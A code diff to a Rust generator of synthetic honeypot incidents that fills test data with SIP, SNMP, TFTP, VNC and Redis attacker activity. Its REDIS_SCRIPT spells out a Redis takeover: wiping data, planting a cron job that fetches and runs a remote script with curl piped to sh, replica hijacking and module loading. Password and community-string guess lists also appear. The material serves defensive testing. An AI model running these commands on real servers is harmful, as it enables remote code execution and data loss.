@@ -2,12 +2,14 @@
 //!
 //! Every generated incident is one of the built-in incidents (the templates)
 //! given a new identity and a new run of events: key, hash, `updated_id`,
-//! times, source address, and user names, passwords and paths drawn from small
-//! word lists. It keeps its template's shape: a key the template lacks (a
-//! token's `src_host_reverse`, the MSSQL incident's `events_count`) stays
-//! absent. Incident `i` depends on nothing but `i` and the seed, so a console
-//! can be filled to any size without holding a second copy, and a test can
-//! recompute any incident to check what came out of the pipeline.
+//! times, source address and port, and what the attacker typed or asked for
+//! (user names, passwords, paths, files, community strings, repositories,
+//! Redis commands) drawn from small word lists. It keeps its template's shape:
+//! a key the template lacks (a token's `src_host_reverse`, the MSSQL
+//! incident's `events_count`) stays absent. Incident `i` depends on nothing
+//! but `i` and the seed, so a console can be filled to any size without
+//! holding a second copy, and a test can recompute any incident to check what
+//! came out of the pipeline.
 
 use std::sync::OnceLock;
 
@@ -109,6 +111,73 @@ const AGENTS: &[&str] = &[
 
 const PORTS: &[u16] = &[21, 22, 23, 80, 139, 443, 445, 1433, 3306, 3389, 5900, 8080];
 
+/// What a VNC Canary cracks: weak passwords of at most eight characters, all
+/// that VNC authentication uses.
+const VNC_PASSWORDS: &[&str] =
+    &["123456", "password", "admin", "1234", "12345678", "qwerty", "vnc", "111111"];
+
+/// Client machines, as SMB names them: a prefix and a number.
+const COMPUTERS: &[&str] =
+    &["WKS-HR", "WKS-FIN", "WKS-IT", "WKS-ENG", "LAPTOP-SALES", "DESKTOP-OPS"];
+
+const WINRM_AGENTS: &[&str] = &[
+    "Microsoft WinRM Client",
+    "Ruby WinRM Client (2.8.3, ruby 3.3.5 (2024-09-03))",
+    "Python WinRM client",
+];
+
+/// Community strings an SNMP scanner guesses.
+const COMMUNITIES: &[&str] =
+    &["public", "private", "cisco", "community", "manager", "admin", "snmp", "monitor", "secret"];
+
+/// What SNMP scanners ask for: sysDescr, sysUpTime, sysName, sysLocation,
+/// the interface table, Cisco's config-copy table.
+const OIDS: &[&str] = &[
+    "1.3.6.1.2.1.1.1.0",
+    "1.3.6.1.2.1.1.3.0",
+    "1.3.6.1.2.1.1.5.0",
+    "1.3.6.1.2.1.1.6.0",
+    "1.3.6.1.2.1.2.2.1.2",
+    "1.3.6.1.4.1.9.9.96.1.1.1.1.2",
+];
+
+/// Files asked of a TFTP server: network device configurations, boot files.
+const TFTP_FILES: &[&str] = &[
+    "startup-config",
+    "running-config",
+    "network-confg",
+    "cisco-confg",
+    "router-confg",
+    "SEPDefault.cnf.xml",
+    "pxelinux.0",
+    "pxelinux.cfg/default",
+    "/etc/passwd",
+];
+
+const REPOS: &[&str] = &[
+    "infra/terraform-prod.git",
+    "secrets.git",
+    "backend/api.git",
+    "ops/ansible.git",
+    "admin/dotfiles.git",
+    "payments-service.git",
+];
+
+/// A Redis intrusion in order, command and arguments: look, wipe, plant a
+/// cron job, or make the server a replica of the attacker's. `{src}` is the
+/// source's address, `{host}` the same in a URL.
+const REDIS_SCRIPT: &[(&str, &str)] = &[
+    ("INFO", ""),
+    ("FLUSHALL", ""),
+    ("SET", "x \"\\n*/2 * * * * curl -fsSL http://{host}/b.sh | sh\\n\""),
+    ("CONFIG", "SET dir /var/spool/cron/"),
+    ("CONFIG", "SET dbfilename root"),
+    ("SAVE", ""),
+    ("SLAVEOF", "{src} 8886"),
+    ("MODULE", "LOAD /tmp/exp.so"),
+    ("SLAVEOF", "NO ONE"),
+];
+
 const HOST_WORDS: &[&str] = &["scan", "host", "client", "vps", "dsl", "probe"];
 
 const DOMAINS: &[&str] = &["example.net", "example.org", "example.com"];
@@ -140,7 +209,7 @@ pub fn incident(index: usize, seed: u64) -> Value {
     let mut times = Vec::with_capacity(count);
     for nth in 0..count {
         let mut event = prototypes[rng.usize(0..prototypes.len())].clone();
-        vary_event(&mut event, nth, time, &actor, &mut rng);
+        vary_event(&mut event, &template.logtype, nth, time, &actor, &mut rng);
         events.push(event);
         times.push(time);
         time += rng.i64(1..=5);
@@ -210,9 +279,11 @@ fn weight(logtype: &str) -> u32 {
         "4002" => 10,
         "3000" | "3001" | "6001" => 8,
         "2000" | "5000" | "5003" | "5007" | "14004" => 6,
-        "8001" | "9001" => 5,
-        "31001" => 4,
-        "1004" | "16000" | "17000" | "17012" => 3,
+        "8001" | "9001" | "12001" => 5,
+        // SIP, SNMP and Redis scanners sweep the internet.
+        "13001" | "15001" | "21001" | "31001" => 4,
+        "1004" | "11001" | "28002" | "29001" | "16000" | "17000" | "17012" => 3,
+        "10001" | "19001" => 2,
         _ => 5,
     }
 }
@@ -251,7 +322,11 @@ fn event_count(template: &Template, prototypes: &[Value], rng: &mut Rng) -> usiz
 struct Actor {
     /// Empty for incidents without a source, like a disconnected Canary.
     address: String,
+    /// The source port, for incidents that have one.
+    port: u16,
     user: &'static str,
+    /// The client machine's name.
+    computer: String,
     file: &'static str,
     agent: &'static str,
 }
@@ -259,11 +334,23 @@ struct Actor {
 impl Actor {
     fn new(template: &Template, rng: &mut Rng) -> Actor {
         let sourceless = template.incident["description"]["src_host"] == "";
+        let agents = if template.logtype == "29001" { WINRM_AGENTS } else { AGENTS };
         Actor {
             address: if sourceless { String::new() } else { address(rng) },
+            port: rng.u16(1024..=65_535),
             user: pick(rng, USERS),
+            computer: format!("{}-{:04}", pick(rng, COMPUTERS), rng.u16(1..=9999)),
             file: pick(rng, FILES),
-            agent: pick(rng, AGENTS),
+            agent: pick(rng, agents),
+        }
+    }
+
+    /// The address as a URL or SIP URI writes it: IPv6 in brackets.
+    fn host(&self) -> String {
+        if self.address.contains(':') {
+            format!("[{}]", self.address)
+        } else {
+            self.address.clone()
         }
     }
 }
@@ -276,20 +363,50 @@ fn address(rng: &mut Rng) -> String {
     format!("{}.{}", pick(rng, NETWORKS), rng.u8(1..=254))
 }
 
-/// Rewrites what one event says; keys the prototype lacks stay absent.
-fn vary_event(event: &mut Value, nth: usize, time: i64, actor: &Actor, rng: &mut Rng) {
+/// Rewrites what one event of a `logtype` incident says; keys the prototype
+/// lacks stay absent.
+fn vary_event(
+    event: &mut Value,
+    logtype: &str,
+    nth: usize,
+    time: i64,
+    actor: &Actor,
+    rng: &mut Rng,
+) {
+    let tftp = logtype == "10001";
+    let vnc = logtype == "12001";
     let Some(fields) = event.as_object_mut() else { return };
     for (key, value) in fields.iter_mut() {
         *value = match key.as_str() {
             "timestamp" => json!(time),
             "timestamp_std" => json!(std_time(time)),
-            // A brute force tries a new pair each time.
-            "USERNAME" => json!(pick(rng, USERS)),
-            "PASSWORD" => json!(pick(rng, PASSWORDS)),
+            // A brute force tries a new pair each time (MongoDB's keys are
+            // lower case).
+            "USERNAME" | "user" => json!(pick(rng, USERS)),
+            "PASSWORD" if vnc => json!(pick(rng, VNC_PASSWORDS)),
+            "PASSWORD" | "password" => json!(pick(rng, PASSWORDS)),
+            // A VNC challenge and its response are new at every attempt.
+            "SERVER_CHALLENGE" | "CLIENT_RESPONSE" => json!(hex(rng, 16)),
+            "COMMUNITY_STRING" => json!(pick(rng, COMMUNITIES)),
+            "REQUESTS" => json!(oids(rng)),
             "PATH" => json!(pick(rng, PATHS)),
             "DN" => json!(format!("CN={},OU=Users,DC=corp,DC=example,DC=com", pick(rng, USERS))),
             "USER" => json!(actor.user),
+            "REMOTENAME" => json!(actor.computer),
+            // A TFTP scanner tries one file after another; an SMB reader
+            // reads on in one.
+            "FILENAME" if tftp => json!(pick(rng, TFTP_FILES)),
             "FILENAME" => json!(actor.file),
+            "OPCODE" => json!(if rng.u8(0..8) == 0 { "WRITE" } else { "READ" }),
+            "MODE" if tftp => json!(if rng.u8(0..4) == 0 { "netascii" } else { "octet" }),
+            "REPO" => json!(pick(rng, REPOS)),
+            // Redis commands follow the script, so an incident reads as one
+            // intrusion.
+            "CMD" => json!(REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].0),
+            "ARGS" => {
+                let args = REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].1;
+                json!(args.replace("{host}", &actor.host()).replace("{src}", &actor.address))
+            }
             "USERAGENT" => json!(actor.agent),
             "OFFSET" => json!(nth * 32_768),
             "ports" => json!(ports(rng)),
@@ -298,8 +415,29 @@ fn vary_event(event: &mut Value, nth: usize, time: i64, actor: &Actor, rng: &mut
                 locate(value, time, actor, rng);
                 continue;
             }
+            "HEADERS" if logtype == "15001" => {
+                sip_headers(value, actor, rng);
+                continue;
+            }
             _ => continue,
         };
+    }
+}
+
+/// Points the SIP headers that name the caller at the actor, with a new call.
+fn sip_headers(headers: &mut Value, actor: &Actor, rng: &mut Rng) {
+    let Some(headers) = headers.as_object_mut() else { return };
+    let (host, port) = (actor.host(), actor.port);
+    for (name, value) in headers.iter_mut() {
+        let header = match name.as_str() {
+            "via" => format!("SIP/2.0/UDP {host}:{port};branch=z9hG4bK-{};rport", rng.u32(..)),
+            "contact" => format!("<sip:100@{host}:{port}>"),
+            "from" => format!("\"sipvicious\"<sip:100@{host}>;tag={}", hex(rng, 12)),
+            "call-id" => format!("{}@{host}", rng.u32(..)),
+            _ => continue,
+        };
+        // Each SIP header is a list of its values.
+        *value = json!([header]);
     }
 }
 
@@ -349,7 +487,6 @@ fn describe(
     let events_list = if times.is_empty() { created.to_string() } else { join(times) };
     let acknowledged = if rng.u8(0..10) == 0 { "True" } else { "False" };
     let has_port = description.get("src_port").is_some_and(|port| *port != "0");
-    let port = has_port.then(|| rng.u16(1024..=65_535).to_string());
 
     let mut set = |key: &str, value: Value| {
         if let Some(slot) = description.get_mut(key) {
@@ -362,8 +499,8 @@ fn describe(
     set("acknowledged", json!(acknowledged));
     set("src_host", json!(actor.address));
     set("src_host_reverse", json!(reverse_name(&actor.address, rng)));
-    if let Some(port) = port {
-        set("src_port", json!(port));
+    if has_port {
+        set("src_port", json!(actor.port.to_string()));
     }
     set("events_count", json!(events.len().to_string()));
     if !events.is_empty() {
@@ -380,6 +517,17 @@ fn reverse_name(address: &str, rng: &mut Rng) -> String {
     let last = address.rsplit(['.', ':']).next().unwrap_or_default();
     let word = if address.contains(':') { "v6" } else { pick(rng, HOST_WORDS) };
     format!("{word}-{last}.{}", pick(rng, DOMAINS))
+}
+
+/// One to three different OIDs, as one SNMP request asks for them.
+fn oids(rng: &mut Rng) -> Vec<&'static str> {
+    let first = rng.usize(0..OIDS.len());
+    (first..first + rng.usize(1..=3)).map(|at| OIDS[at % OIDS.len()]).collect()
+}
+
+/// `bytes` random bytes in lower case hex.
+fn hex(rng: &mut Rng, bytes: usize) -> String {
+    (0..bytes).map(|_| format!("{:02x}", rng.u8(..))).collect()
 }
 
 /// A few well-known ports in ascending order, as a host port scan lists them.
@@ -523,6 +671,46 @@ mod tests {
         let all: HashSet<(String, String)> =
             templates().iter().map(|t| (t.kind.clone(), t.logtype.clone())).collect();
         assert_eq!(used, all);
+    }
+
+    /// SIP headers name the source, Redis commands follow the script, VNC
+    /// challenges are new at each attempt, TFTP asks for device files.
+    #[test]
+    fn services_vary_as_their_attackers_do() {
+        let mut seen = HashSet::new();
+        for incident in incidents(3_000, 9) {
+            let description = &incident["description"];
+            let logtype = description["logtype"].as_str().unwrap();
+            let source = description["src_host"].as_str().unwrap();
+            let events = events(&incident);
+            match logtype {
+                "15001" => {
+                    let via = events[0]["HEADERS"]["via"][0].as_str().unwrap();
+                    let port = description["src_port"].as_str().unwrap();
+                    assert!(via.contains(source) && via.contains(&format!(":{port};")), "{via}");
+                }
+                "21001" => {
+                    for (nth, event) in events.iter().enumerate() {
+                        assert_eq!(event["CMD"], REDIS_SCRIPT[nth % REDIS_SCRIPT.len()].0);
+                        assert!(!event["ARGS"].as_str().unwrap().contains('{'));
+                    }
+                }
+                "12001" => {
+                    let challenges: HashSet<&str> =
+                        events.iter().map(|e| e["SERVER_CHALLENGE"].as_str().unwrap()).collect();
+                    assert_eq!(challenges.len(), events.len());
+                    let mut cracked = events.iter().filter_map(|e| e["PASSWORD"].as_str());
+                    assert!(cracked.all(|p| p.len() <= 8));
+                }
+                "10001" => {
+                    let mut files = events.iter().map(|e| e["FILENAME"].as_str().unwrap());
+                    assert!(files.all(|f| TFTP_FILES.contains(&f)));
+                }
+                _ => continue,
+            }
+            seen.insert(logtype.to_owned());
+        }
+        assert_eq!(seen.len(), 4, "{seen:?}");
     }
 
     #[test]
